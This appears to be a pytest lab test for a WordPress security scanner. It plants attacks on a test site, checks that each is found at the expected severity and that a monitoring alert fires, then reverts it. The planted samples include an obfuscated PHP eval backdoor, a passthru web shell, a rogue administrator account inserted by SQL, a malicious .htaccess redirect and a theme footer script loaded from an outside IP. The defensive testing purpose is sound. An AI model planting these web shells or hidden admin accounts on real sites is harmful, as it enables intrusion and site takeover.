"""The security scan on real lab servers: a freshly onboarded WordPress site scores zero, and an attack
planted on it (each on its own, then removed) is found with its severity and turns the site's SCAN push
monitor in Kuma down."""

from __future__ import annotations

import json
import shlex
import time

import pytest

from infra.kuma_client import KumaLogin, connect
from infra.monitors.states import monitor_states
from infra.plan import SitePlan
from lab.state import LabState

pytestmark = pytest.mark.lab


def wordpress_site(lab: LabState) -> tuple[str, SitePlan]:
    for client in lab.clients:
        for site in lab.plan(client.id).sites:
            if site.kind in ("wordpress", "woocommerce"):
                return client.server, site
    pytest.skip("no WordPress site in the lab")


def scan(lab: LabState, server: str, site: SitePlan, *args: str) -> tuple[int, list[dict[str, object]]]:
    run = lab.ssh(server, f"carestack-agent scan {shlex.quote(site.id)} {' '.join(args)}")
    last = lab.ssh(server, f"cat /var/lib/carestack/scan/{site.id}/last.json")
    return run.returncode, json.loads(last.stdout)["findings"] if last.returncode == 0 else []


def scan_monitor(lab: LabState, site: SitePlan) -> str:
    assert lab.kuma_url and lab.kuma_credentials_file
    saved = json.loads(lab.kuma_credentials_file.read_text())
    with connect(KumaLogin(lab.kuma_url, saved["username"], saved["password"]), timeout=30) as session:
        for client in lab.clients:
            for name, state in monitor_states(session, client.id).items():
                if name.startswith(site.id) and name.endswith("scan job"):
                    return state
    raise AssertionError(f"no scan monitor for {site.id}")


def test_a_freshly_onboarded_site_scores_zero_and_its_timer_is_set(lab: LabState) -> None:
    server, site = wordpress_site(lab)
    assert scan(lab, server, site, "--accept")[0] == 0
    code, findings = scan(lab, server, site)
    assert (code, findings) == (0, [])
    timers = lab.ssh(server, f"systemctl list-timers --all --no-pager carestack-scan@{site.id}.timer").stdout
    assert f"carestack-scan@{site.id}.timer" in timers


@pytest.mark.parametrize(
    ("plant", "undo", "check", "severity"),
    [
        ("echo '<?php @eval(gzinflate(base64_decode($_POST[1])));' > {root}/wp-content/uploads/wp-cache.php",
         "rm {root}/wp-content/uploads/wp-cache.php", "uploads", "critical"),
        ("echo '<?php echo passthru($_REQUEST[\"c\"]);' > {root}/wp-content/plugins/akismet/_inc/lib.php",
         "rm {root}/wp-content/plugins/akismet/_inc/lib.php", "patterns", "critical"),
        ("cp {root}/wp-includes/version.php /root/v.keep && echo '// x' >> {root}/wp-includes/version.php",
         "cat /root/v.keep > {root}/wp-includes/version.php && rm /root/v.keep", "core", "critical"),
        ("printf 'Redirect 302 /shop https://deals.example.net/\\n' >> {root}/.htaccess",
         "sed -i '/deals.example.net/d' {root}/.htaccess", "patterns", "high"),
        ("mariadb {db} -e \"INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_registered, "
         "display_name) VALUES ('helpdesk', 'x', 'helpdesk', 'h@example.net', NOW(), 'helpdesk'); INSERT INTO "
         "wp_usermeta (user_id, meta_key, meta_value) SELECT ID, 'wp_capabilities', "
         "'a:1:{{s:13:\\\"administrator\\\";b:1;}}' FROM wp_users WHERE user_login='helpdesk'\"",
         "mariadb {db} -e \"DELETE m, u FROM wp_users u JOIN wp_usermeta m ON m.user_id = u.ID "
         "WHERE u.user_login='helpdesk'\"", "database", "critical"),
        ("cp {root}/wp-content/themes/twentytwentythree/parts/footer.html /root/f.keep && printf "
         "'<script type=\"text/javascript\" src=\"http://203.0.113.7/jquery.min.js\"></script>\\n' "
         ">> {root}/wp-content/themes/twentytwentythree/parts/footer.html",
         "cat /root/f.keep > {root}/wp-content/themes/twentytwentythree/parts/footer.html && rm /root/f.keep",
         "patterns", "high"),
        # a plugin version the lab's feed (lab/vulnerabilities.json) lists as vulnerable
        ("mkdir {root}/wp-content/plugins/carestack-lab-form && printf '<?php\\n/*\\nPlugin Name: Lab form\\n"
         "Version: 1.3.0\\n*/\\n' > {root}/wp-content/plugins/carestack-lab-form/carestack-lab-form.php",
         "rm -r {root}/wp-content/plugins/carestack-lab-form", "vulns", "high"),
    ],
    ids=[
        "obfuscated-php-in-uploads", "web-shell-in-plugin", "modified-core-file", "htaccess-redirect", "new-admin",
        "script-injected-in-theme", "vulnerable-plugin-version",
    ],
)  # fmt: skip
def test_a_planted_attack_is_found_and_the_scan_monitor_goes_down(
    lab: LabState, plant: str, undo: str, check: str, severity: str
) -> None:
    server, site = wordpress_site(lab)
    assert scan(lab, server, site, "--accept")[0] == 0
    fill = {"root": site.root, "db": site.database or ""}
    assert lab.ssh(server, plant.format(**fill)).returncode == 0
    try:
        code, findings = scan(lab, server, site)
        assert code == 1
        assert any(f["check"] == check and f["severity"] == severity for f in findings), findings
        deadline = time.monotonic() + 30
        while scan_monitor(lab, site) != "down" and time.monotonic() < deadline:
            time.sleep(2)
        assert scan_monitor(lab, site) == "down"
    finally:
        assert lab.ssh(server, undo.format(**fill)).returncode == 0
    assert scan(lab, server, site) == (0, [])


# The agency's answer of WordPress's core checksums API for a release, as the server's copy of it would be:
# every file of the release with its md5 sum (here the site's own tree, made a release of its own version).
RELEASE_CHECKSUMS = (
    'python3 -c \'import hashlib, json, os, sys; root = sys.argv[1]; print(json.dumps({{"checksums": {{'
    'os.path.relpath(os.path.join(d, n), root): hashlib.md5(open(os.path.join(d, n), "rb").read()).hexdigest() '
    "for d, _, ns in os.walk(root) for n in ns}}}}))' {root} > /etc/carestack/core-checksums/{version}.json"
)


def core_findings(findings: list[dict[str, object]]) -> list[tuple[str, str]]:
    return [(str(f["severity"]), str(f["message"])) for f in findings if f["check"] == "core"]


def test_a_site_on_a_release_the_package_is_not_is_compared_with_the_agencys_checksums(lab: LabState) -> None:
    """An imported site runs WordPress's own release, not Debian's package: its core is compared with the
    checksum file converge installed for that version, and a modified core file is found; without the file
    the check says it has no reference instead of passing it."""
    server, site = wordpress_site(lab)
    version = "6.0.99"
    fill = {"root": site.root, "version": version}
    assert lab.ssh(server, "test -d /etc/carestack/core-checksums").returncode == 0  # converge made it
    plant = (
        "cp {root}/wp-includes/version.php /root/v.keep && cp {root}/wp-includes/load.php /root/l.keep && "
        "sed -i \"s/^\\$wp_version = .*/\\$wp_version = '{version}';/\" {root}/wp-includes/version.php"
    )
    undo = (
        "cat /root/v.keep > {root}/wp-includes/version.php && cat /root/l.keep > {root}/wp-includes/load.php && "
        "rm -f /root/v.keep /root/l.keep /etc/carestack/core-checksums/{version}.json"
    )
    assert lab.ssh(server, plant.format(**fill)).returncode == 0
    try:
        scan(lab, server, site, "--accept")
        [(severity, message)] = core_findings(scan(lab, server, site)[1])
        assert severity == "info" and message.startswith(f"WordPress {version}: no offline core reference ("), message
        assert f"no /etc/carestack/core-checksums/{version}.json" in message
        assert lab.ssh(server, RELEASE_CHECKSUMS.format(**fill)).returncode == 0
        assert scan(lab, server, site) == (0, [])
        assert lab.ssh(server, "echo '// x' >> {root}/wp-includes/load.php".format(**fill)).returncode == 0
        code, findings = scan(lab, server, site)
        assert code == 1
        assert ("critical", "WordPress core file modified: wp-includes/load.php") in core_findings(findings), findings
    finally:
        assert lab.ssh(server, undo.format(**fill)).returncode == 0
    scan(lab, server, site, "--accept")
    assert scan(lab, server, site) == (0, [])
